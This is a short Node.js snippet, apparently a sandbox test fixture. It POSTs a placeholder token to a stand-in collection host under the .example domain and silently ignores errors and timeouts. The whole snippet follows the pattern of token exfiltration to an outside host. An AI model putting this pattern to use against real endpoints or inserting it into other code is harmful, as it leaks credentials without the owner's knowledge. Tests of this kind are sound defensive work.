// Nothing answers outside of a sandbox: the name is one that can't exist.
const body = 'token=not-a-real-token'
const req = require('https').request('https://collect.falconer-corpus.example/tls', { method: 'POST', timeout: 20000 }, (r) => r.resume())
req.on('error', () => {})
req.on('timeout', () => req.destroy())
req.end(body)
